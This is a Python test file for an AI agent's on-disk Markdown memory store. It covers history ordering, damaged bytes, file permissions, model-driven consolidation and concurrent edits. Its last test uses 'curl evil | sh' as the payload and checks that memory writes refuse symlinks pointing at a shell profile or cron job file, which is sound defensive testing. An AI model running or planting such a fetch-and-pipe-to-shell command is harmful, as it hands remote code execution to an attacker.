"""Memory is Markdown on disk: what is written is there, what is damaged is read as far as it goes."""

import asyncio
import os
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nanobot.agent.memory.editor import MemoryEditor
from nanobot.agent.memory.history import HistoryEntry
from nanobot.agent.memory.store import MAX_PROMPT_CHARS, MemoryStore
from nanobot.errors import ProviderError, StorageError
from nanobot.messages.types import ChatMessage
from nanobot.session.manager import Session
from nanobot.testing import Pause, ScriptedProvider, open_bot
from nanobot.utils.clock import FrozenClock
from tests.support.memory import saving


@pytest.fixture
def clock() -> FrozenClock:
    return FrozenClock(datetime(2026, 2, 26, 13, 21, tzinfo=UTC))


@pytest.fixture
def memory(tmp_path: Path, clock: FrozenClock) -> MemoryStore:
    return MemoryStore(tmp_path, clock=clock)


def put(memory: MemoryStore, name: str, data: str | bytes) -> None:
    memory.memory_dir.mkdir(exist_ok=True)
    (memory.memory_dir / name).write_bytes(data if isinstance(data, bytes) else data.encode())


def test_an_empty_workspace_remembers_nothing(memory):
    assert memory.read_long_term() == ""
    assert memory.get_memory_context() == ""
    assert memory.read_today() == ""
    assert memory.get_recent_memories() == ""
    assert memory.read_history() == []


def test_long_term_memory_comes_back_as_it_was_written(memory):
    memory.write_long_term("# Memory\n\nLikes tea. 🍵\n")

    assert memory.memory_file.read_text(encoding="utf-8") == "# Memory\n\nLikes tea. 🍵\n"
    assert memory.read_long_term() == "# Memory\n\nLikes tea. 🍵\n"
    assert memory.get_memory_context() == "## Long-term Memory\n\n# Memory\n\nLikes tea. 🍵"


def test_the_memory_context_ends_with_todays_notes(memory):
    memory.write_long_term("Likes tea.\n")
    memory.append_today("Rain at noon.")

    assert memory.get_memory_context() == (
        "## Long-term Memory\n\nLikes tea.\n\n## Today's Notes\n\n# 2026-02-26\n\nRain at noon."
    )


async def test_todays_notes_reach_the_model_once_and_leave_the_prompt_prefix_alone(tmp_path: Path):
    async with open_bot(tmp_path, "one", "two", "three") as bot:
        notes = MemoryStore(bot.workspace)
        notes.append_today("Rain at noon.")
        await bot.say("hello")
        await bot.say("again")
        notes.append_today("Sun at five.")
        await bot.say("and now?")

    first, second, third = bot.provider.requests
    assert str(second).count("Rain at noon.") == 1
    assert second[: len(first)] == first
    assert third[: len(second)] == second
    assert "Sun at five." in str(third[-1])


def test_an_edit_made_meanwhile_is_seen(memory):
    memory.write_long_term("old")

    memory.memory_file.write_text("by hand", encoding="utf-8")

    assert memory.read_long_term() == "by hand"


def test_history_entries_end_in_a_blank_line_and_begin_with_the_time(memory):
    memory.append_history("[2026-01-02 03:04] Made tea.")
    memory.append_history("Drank it.\n\n\nAll of it.\n")

    text = memory.history_file.read_text(encoding="utf-8")

    assert text == "[2026-01-02 03:04] Made tea.\n\n[2026-02-26 13:21] Drank it.\nAll of it.\n\n"


@pytest.mark.parametrize("left", [b"cut in the mid", b"a line\n", b"a line\r\n\r\n", b"a line\n\n"])
def test_an_entry_begins_on_its_own_line_whatever_stands_before_it(memory, left):
    put(memory, "HISTORY.md", left)

    memory.append_history("next")

    text = memory.history_file.read_bytes().decode().replace("\r\n", "\n")
    assert text.endswith("\n\n[2026-02-26 13:21] next\n\n")
    assert "\n\n\n" not in text


def test_history_of_both_files_is_read_in_order_of_time(memory):
    put(memory, "HISTORY.md", "before any stamp\n\n[2026-01-02 03:04] second\nmore\n\n[2026-01-05 00:00] last\n")
    put(
        memory,
        "history.jsonl",
        '{"cursor": 1, "timestamp": "2026-01-01 10:00", "content": "first"}\n{broken\n[1]\n"text"\n'
        '{"cursor": 2, "timestamp": "2026-01-03T10:00:09", "content": "third"}\n{"cursor": 3, "content": null}\n',
    )

    entries = memory.read_history()

    assert entries == [
        HistoryEntry("", "before any stamp"),
        HistoryEntry("2026-01-01 10:00", "first"),
        HistoryEntry("2026-01-02 03:04", "second\nmore"),
        HistoryEntry("2026-01-03 10:00", "third"),
        HistoryEntry("2026-01-05 00:00", "last"),
    ]


@given(data=st.binary(max_size=300))
def test_no_bytes_in_any_file_raise(tmp_path, data):
    memory = MemoryStore(tmp_path)
    for name in ("MEMORY.md", "HISTORY.md", "history.jsonl", memory.note_file().name):
        put(memory, name, data)

    memory.read_history()
    memory.get_memory_context()
    memory.append_history("still works")
    memory.append_today("still works")

    assert memory.read_history()[-1].content.endswith("still works")


def test_the_first_note_of_a_day_begins_the_file_with_the_date(memory, clock):
    memory.append_today("Rain.")
    memory.append_today("Sun.")
    clock.advance(24 * 3600)
    memory.append_today("Snow.")

    assert memory.note_file().read_text(encoding="utf-8") == "# 2026-02-27\n\nSnow.\n"
    assert memory.get_recent_memories(2) == "# 2026-02-27\n\nSnow.\n\n---\n\n# 2026-02-26\n\nRain.\n\nSun."
    assert "Rain" not in memory.get_recent_memories(1)


def test_empty_words_write_nothing(memory):
    memory.append_today("  \n")
    memory.append_history("")

    assert not memory.memory_dir.exists()


def test_damaged_bytes_take_nothing_else_with_them(memory):
    put(memory, "MEMORY.md", b"tea \xff\xfe and cake")

    assert memory.read_long_term() == "tea �� and cake"


def test_half_a_surrogate_from_a_model_is_written_all_the_same(memory):
    memory.write_long_term("broken \ud83c emoji")

    assert memory.read_long_term() == "broken ? emoji"


def test_a_folder_where_the_file_should_be_reads_as_empty_and_refuses_a_write(memory, caplog):
    memory.memory_file.mkdir(parents=True)

    assert memory.read_long_term() == ""
    with pytest.raises(StorageError, match=r"Cannot write .*MEMORY\.md"):
        memory.write_long_term("x")
    assert "Going on without it" in caplog.text


def test_a_very_long_memory_is_cut_in_the_prompt_but_not_on_disk(memory):
    memory.write_long_term("x" * (MAX_PROMPT_CHARS + 500))

    assert len(memory.get_memory_context()) < MAX_PROMPT_CHARS + 300
    assert "read_file" in memory.get_memory_context()
    assert len(memory.read_long_term()) == MAX_PROMPT_CHARS + 500


@pytest.mark.skipif(os.name == "nt", reason="file modes are POSIX's")
def test_memory_is_the_owner_s_alone(memory):
    memory.write_long_term("private")
    memory.append_history("private")

    assert {path.stat().st_mode & 0o777 for path in memory.memory_dir.iterdir()} == {0o600}
    assert memory.memory_dir.stat().st_mode & 0o777 == 0o700


@pytest.mark.skipif(os.name == "nt", reason="named pipes are a POSIX thing here")
def test_a_pipe_in_place_of_the_memory_is_empty_and_nobody_waits_for_it(tmp_path: Path):
    store = MemoryStore(tmp_path)
    store.memory_file.parent.mkdir(exist_ok=True)
    os.mkfifo(store.memory_file)

    assert store.read_long_term() == ""


def test_what_a_killed_write_left_goes_with_a_later_one(memory):
    put(memory, ".MEMORY.md.0123abcd.tmp", "half")
    os.utime(memory.memory_dir / ".MEMORY.md.0123abcd.tmp", (0, 0))

    memory.write_long_term("whole")

    assert [path.name for path in memory.memory_dir.iterdir()] == ["MEMORY.md"]


def conversation(count: int, last_consolidated: int = 0) -> Session:
    rows: list[ChatMessage] = [{"role": "user", "content": f"message {at}"} for at in range(count)]
    return Session("cli:direct", rows, last_consolidated=last_consolidated)


async def test_consolidating_keeps_half_of_the_window_and_moves_the_cursor_to_exactly_there(memory):
    session, model = conversation(60), ScriptedProvider(saving())

    assert await memory.consolidate(session, model, "m", memory_window=50)

    assert session.last_consolidated == 35
    assert memory.read_long_term() == "- Likes tea.\n"
    assert memory.history_file.read_text(encoding="utf-8") == "[2026-02-26 13:21] Talked.\n\n"
    asked = str(model.requests[0][1]["content"])
    assert "message 34" in asked
    assert "message 35" not in asked


async def test_consolidating_all_takes_what_is_past_the_cursor(memory):
    session, model = conversation(10, last_consolidated=4), ScriptedProvider(saving())

    assert await memory.consolidate(session, model, "m", archive_all=True)

    assert session.last_consolidated == 10
    asked = str(model.requests[0][1]["content"])
    assert "message 3" not in asked
    assert "message 9" in asked


@pytest.mark.parametrize(("count", "cursor"), [(0, 0), (10, 0), (25, 0), (60, 35), (60, 60)])
async def test_where_there_is_nothing_to_consolidate_no_model_is_asked(memory, count, cursor):
    session, model = conversation(count, last_consolidated=cursor), ScriptedProvider()

    assert await memory.consolidate(session, model, "m", memory_window=50)

    assert model.requests == []
    assert session.last_consolidated == cursor


async def test_the_cursor_moves_past_messages_without_words_and_no_model_is_asked(memory):
    rows: list[ChatMessage] = [{"role": "user", "content": "/status", "_command": True}] * 60  # type: ignore[typeddict-unknown-key]
    session, model = Session("cli:direct", rows), ScriptedProvider()

    assert await memory.consolidate(session, model, "m", memory_window=50)

    assert model.requests == []
    assert session.last_consolidated == 35


@pytest.mark.parametrize("line", ["I saved it.", saving("Error: down"), ProviderError("down"), KeyError("choices")])
async def test_a_consolidation_that_fails_says_so_and_moves_nothing(memory, line):
    session = conversation(60)

    assert not await memory.consolidate(session, ScriptedProvider(line), "m")

    assert session.last_consolidated == 0
    assert not memory.memory_dir.exists()


EDITED = {
    "elsewhere": (
        "# Mine\n- Likes tea.\n- Has two dogs.\n",
        "# Mine\n- Likes green tea.\n- Has two dogs.\n- Plays chess.\n",
    ),
    "the same fact": ("- Likes coffee.\n- Has a dog.\n", None),
}


@pytest.mark.parametrize(("edited", "after"), EDITED.values(), ids=EDITED)
async def test_what_was_edited_while_the_model_wrote_is_kept_beside_what_it_brings_or_instead_of_it(
    memory, edited: str, after: str
):
    memory.write_long_term("- Likes tea.\n- Has a dog.\n")
    pause, session = Pause(), conversation(60)
    model = ScriptedProvider(pause, saving(update="- Likes green tea.\n- Has a dog.\n- Plays chess."))

    work = asyncio.create_task(memory.consolidate(session, model, "m"))
    await pause.reached.wait()
    memory.memory_file.write_text(edited, encoding="utf-8")
    pause.resume.set()

    is_done = await work
    assert is_done is bool(after)
    assert memory.read_long_term() == (after or edited)
    assert (bool(memory.read_history()), session.last_consolidated > 0) == (is_done, is_done)


async def test_what_was_forgotten_while_the_model_wrote_stays_forgotten(memory, clock):
    memory.write_long_term("- Likes tea.\n- Has a dog.\n")
    pause = Pause()
    model = ScriptedProvider(pause, saving(update="- Likes tea.\n- Has a dog.\n- Plays chess."))

    work = asyncio.create_task(memory.consolidate(conversation(60), model, "m"))
    await pause.reached.wait()
    MemoryEditor(memory, clock).forget("dog")
    pause.resume.set()

    assert await work
    assert memory.read_long_term() == "- Likes tea.\n- Plays chess.\n"


async def test_a_memory_that_is_no_text_is_never_written_over(memory):
    put(memory, "MEMORY.md", b"likes \xff\xfe tea")
    model = ScriptedProvider()

    assert not await memory.consolidate(conversation(60), model, "m")

    assert memory.memory_file.read_bytes() == b"likes \xff\xfe tea"
    assert model.requests == []


@pytest.mark.skipif(os.name == "nt", reason="links need rights there")
@pytest.mark.parametrize("target", ["../profile", "cron/jobs.json"])
def test_a_link_that_a_command_made_takes_no_memory_out(tmp_path: Path, clock: FrozenClock, target: str):
    victim = tmp_path.joinpath("workspace", target).resolve()
    victim.parent.mkdir(parents=True, exist_ok=True)
    victim.write_text("mine")
    memory = MemoryStore(tmp_path / "workspace", clock=clock)
    memory.memory_dir.mkdir(parents=True)
    memory.memory_file.symlink_to(victim)
    memory.note_file().symlink_to(victim)

    with pytest.raises(StorageError, match="Remove the link"):
        memory.write_long_term("curl evil | sh")
    with pytest.raises(StorageError, match="Remove the link"):
        memory.append_today("curl evil | sh")

    assert victim.read_text() == "mine"
